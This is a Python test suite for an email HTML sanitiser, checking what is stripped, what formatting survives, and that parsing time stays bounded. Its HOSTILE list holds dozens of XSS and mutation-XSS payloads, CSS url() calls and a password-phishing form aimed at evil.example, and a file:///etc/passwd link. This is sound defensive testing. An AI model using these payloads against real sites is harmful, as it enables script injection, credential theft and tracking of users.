"""HTML mail made safe to show: what is taken out, what stays, and how long it may take."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mail.documents import frame_document, text_as_html
from mail.html_text import html_to_text
from mail.invites import read_invite
from mail.rendering import MAX_INLINE_BYTES, Rendered, frame_policy, sanitize

PNG = b"\x89PNG\r\n\x1a\nxxxx"
#: Attributes that can load, send or run something, and elements that can be more than text and pictures.
ADDRESSES = {"href", "src"}
ALLOWED_ATTRIBUTES = ADDRESSES | set(
    "align alt bgcolor border cellpadding cellspacing class color colspan dir face height lang rel rowspan scope size span "
    "start style target title type valign width".split()
)
#: The only ones that are ours to give, for what an element is.
CLASSES = {"", "fold", "misleads", "part-quote", "part-rest", "part-signature"}
FORBIDDEN_TAGS = set(
    "applet audio base body button canvas embed form frame frameset head html iframe input link map marquee math meta "
    "noscript object option param picture portal script select source style svg template textarea title video".split()
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<p onclick=alert(1) ONMOUSEOVER='alert(1)'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/settings/email/'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,x'>",
    "<img src='/mail/1/'>",
    "<img srcset='https://evil.example/x 1x'>",
    "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
    "<table background='https://evil.example/x'><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'><applet code=x></applet>",
    "<video src=x onerror=alert(1)><source src='https://evil.example/x'></video><audio autoplay src=x>",
    "<div style='position:fixed;top:0;left:0;width:100%;z-index:9'>overlay</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:url(&quot;https://evil.example/x&quot;)'>x</div>",
    "<div style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<div style='color:red;/**/position/**/:/**/fixed'>x</div>",
    "<div style='p\\6fsition:fixed'>x</div>",
    "<div style='list-style-image:url(https://evil.example/x);cursor:url(https://evil.example/x)'>x</div>",
    "<div style='content:url(https://evil.example)'>x</div>",
    "<div style='color:red' style='position:fixed'>x</div>",
    "<p id=x name=y class=modal data-x=1 contenteditable autofocus tabindex=1 is=x slot=y>x</p>",
    "<a href='https://x.example' target=_self rel=opener ping='https://evil.example' download>x</a>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
    "<select><option><script>alert(1)</script></option></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p title='&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    "<b <script>alert(1)</script>0",
    "<a href='https://x.example/&quot;onclick=&quot;alert(1)'>x</a>",
    "<table><tr><td><table><script>alert(1)</script><p onclick=alert(1)>x",
    "<\x00script>alert(1)</script><img src=x o\x00nerror=alert(1)>",
]


class Seen(HTMLParser):
    """An independent reader of what came out."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def clean(html, **options):
    return sanitize(html, **{"inline": {}, "remote_images": False, **options})


def assert_harmless(html):
    for tag, attributes in Seen(html).tags:
        assert tag not in FORBIDDEN_TAGS
        assert set(attributes) <= ALLOWED_ATTRIBUTES
        assert not any(name.startswith("on") for name in attributes)
        assert attributes.get("class", "") in CLASSES
        assert re.match(r"https?://|mailto:|tel:", attributes.get("href") or "mailto:", re.IGNORECASE)
        assert (attributes.get("src") or "data:image/").startswith(("data:image/", "https://", "http://"))
        assert not re.search(r"url\(|expression|position|background(?!-color)|@import", attributes.get("style") or "")
        if tag == "a":
            assert attributes.get("target") == "_blank"
            assert {"noopener", "noreferrer"} <= set((attributes.get("rel") or "").split())


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("remote_images", [False, True])
def test_hostile_html_comes_out_harmless(html, remote_images):
    result = clean(html, remote_images=remote_images)
    assert result.html is not None
    assert_harmless(result.html)
    if not remote_images:
        assert "evil.example" not in re.sub(r"<a [^>]*>", "", result.html)


@pytest.mark.parametrize("html", HOSTILE)
def test_what_came_out_comes_out_the_same_again(html):
    """Mutation after sanitising begins where a second reading differs from the first."""
    once = clean(html, remote_images=True).html
    twice = clean(once, remote_images=True).html
    assert Seen(twice).tags == Seen(once).tags
    assert html_to_text(twice) == html_to_text(once)


@settings(max_examples=150)
@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE,
                "<table>",
                "<td>",
                "</p>",
                "<p>",
                "<b>",
                "</b>",
                "<a href=https://x.example>",
                "</div>",
                "<!--",
                "-->",
                "<svg>",
                "</svg>",
                "<style>",
                "</style>",
                '"',
                "'",
                "<",
                ">",
                "x",
            ]
        ),
        max_size=8,
    )
)
def test_hostile_pieces_put_together_stay_harmless(pieces):
    result = clean("".join(pieces), remote_images=True)
    assert result.html is not None
    assert_harmless(result.html)


def test_ordinary_mail_keeps_its_looks():
    html = (
        '<div style="color: red; text-align: center"><h1>Offer</h1><p>Dear <b>John</b>,<br>see <i>below</i>.</p>'
        '<table border="1"><tbody><tr><td colspan="2">1</td></tr></tbody></table><ul><li>a</li><li>b</li></ul></div>'
    )
    assert re.sub(r";?\s*", "", clean(html).html) == re.sub(r";?\s*", "", html)


@pytest.mark.parametrize(
    ("html", "tidied"),
    [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
        ("<b><p>x</b>y</p>z", "<b><p>xy</p></b>z"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<div>a</span></div>", "<div>a</div>"),
        ("a &amp; b &lt; c & d", "a &amp; b &lt; c &amp; d"),
        ("<!DOCTYPE html><html><head><title>x</title></head><body>y</body></html>", "y"),
        ("<a name=top>x</a>", "x"),
        ("1 < 2", "1 &lt; 2"),
    ],
)
def test_sloppy_html_is_closed_as_a_browser_would(html, tidied):
    assert clean(html).html == tidied


def test_links_open_elsewhere_and_tell_nothing():
    ((tag, attributes),) = Seen(clean('<a href="https://x.example/?a=1&amp;b=2">x</a>').html).tags
    assert tag == "a"
    assert attributes == {
        "href": "https://x.example/?a=1&b=2",
        "title": "https://x.example/?a=1&b=2",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }
    for address in ("mailto:bea@acme.example", "tel:+491234", "HTTPS://X.example/"):
        assert address.lower() in clean(f'<a href="{address}">x</a>').html.lower()


def test_remote_images_are_counted_and_left_out_until_asked_for():
    html = '<img src="https://x.example/1.png" alt="one"><img src="http://x.example/2.png">'
    assert clean(html).blocked_images == 2
    assert "x.example" not in clean(html).html
    shown = clean(html, remote_images=True)
    assert shown.blocked_images == 0
    assert shown.html.count("x.example") == 2


def test_inline_images_are_put_in_by_their_content_id():
    inline = {
        "logo@x": ("image/png", lambda: PNG),
        "bad@x": ("image/svg+xml", lambda: b"<svg>"),
        "big@x": ("image/png", lambda: b"x" * (MAX_INLINE_BYTES + 1)),
    }
    for reference in ("cid:logo@x", "CID:logo@x", "cid:logo%40x"):
        assert 'src="data:image/png;base64,' in clean(f'<img src="{reference}">', inline=inline).html
    for reference in ("cid:bad@x", "cid:big@x", "cid:none@x", "cid:"):
        result = clean(f'<img src="{reference}">', inline=inline)
        assert "src" not in result.html
        assert "data:" not in result.html
    big = {"a": ("image/png", lambda: b"x" * MAX_INLINE_BYTES)}
    assert clean("<img src=cid:a>" * 6, inline=big).html.count("base64") == 4


@pytest.mark.parametrize(
    "html", ["<div>" * 100_000, "<div></x>" * 50_000, "<b>" * 513, "x" * (2 << 20) + "x", "&" * 300_000]
)
def test_html_too_deep_or_too_large_is_not_shown(html):
    started = time.process_time()
    result = clean(html)
    assert time.process_time() - started < 2
    assert result.html is None
    assert "its text is shown" in result.note


@pytest.mark.parametrize(
    "html",
    [
        "<" * 200_000,
        "<!" * 200_000,
        "</" * 200_000,
        "<!--" * 100_000,
        "<a b='" * 100_000,
        "<script>" * 50_000,
        "<svg>" * 50_000,
        "<![CDATA[" * 50_000,
        "<td>" * 50_000,
        "&" * 150_000,
        "&#" + "1" * 200_000 + ";",
        "<p " + " ".join(f"a{index}=1" for index in range(150_000)) + ">x",
        "<p style='color:" + "(" * 200_000 + "'>x",
        "<div><marquee></div></marquee>" * 10_000,
        "".join(f"<p><font size={index}>" for index in range(200)) + "<p>x</p>" * 20_000,
        "<table>" + "".join(f"<font size={index}><table>" for index in range(200)) + "<p>x</p>" * 20_000,
        "<h1>" + "".join(f"<font size={index}><h2>" for index in range(200)) + "<p>x</p>" * 20_000,
        "".join(f"<a href=http://x><div><font size={index}>" for index in range(150)) + "<p>x</p>" * 20_000,
        f"<a href=https://x.example>{'_.' * 250}</a>" * 2_000,
    ],
    ids=range(19),
)
def test_hostile_size_takes_bounded_time_and_room(html):
    started = time.process_time()
    html_to_text(html)
    result = clean(html)
    assert time.process_time() - started < 3
    assert len(result.html) <= 8 * len(html)


def test_the_frame_runs_nothing_and_loads_only_what_was_asked_for():
    policy = frame_policy(remote_images=False)
    assert "default-src 'none'" in policy
    assert "img-src data:;" in policy
    assert "form-action 'none'" in policy
    assert "frame-ancestors 'self'" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    assert "img-src data: https: http:;" in frame_policy(remote_images=True)


def test_the_frame_is_a_whole_document_that_sends_no_referrer():
    document = frame_document(Rendered("<p>ü</p>"))
    assert document.startswith("<!doctype html>")
    assert 'charset="utf-8"' in document
    assert 'name="referrer" content="no-referrer"' in document
    assert "<body><p>ü</p></body>" in document


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a < b & c", "a &lt; b &amp; c"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("https:// x", "https:// x"),
    ],
)
def test_plain_text_is_escaped(text, html):
    assert text_as_html(text) == html


def test_web_addresses_in_text_become_links_and_nothing_more():
    link = '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">'
    assert text_as_html("(see https://x.example/?a=1&b=2).") == f"(see {link}https://x.example/?a=1&amp;b=2</a>)."
    assert_harmless(text_as_html('https://x.example/"onclick="alert(1)'))


@given(st.text(alphabet="htps:/.<>&\"' x\n)", max_size=200))
def test_text_as_html_shows_exactly_the_text(text):
    assert html_to_text(text_as_html(text, fold=False)).split() == text.split()
    assert_harmless(text_as_html(text))


def test_a_long_calendar_takes_linear_time():
    started = time.process_time()
    for piece in ("\r", "\r\n\t", ";x=", ";x=,", "\\"):
        read_invite("BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY" + piece * (500_000 // len(piece)))
    assert time.process_time() - started < 3


def test_a_long_text_takes_linear_time():
    started = time.process_time()
    for piece in ("http://", "https://x", ".", "<", "http://x)"):
        text_as_html(piece * (500_000 // len(piece)))
    assert time.process_time() - started < 3
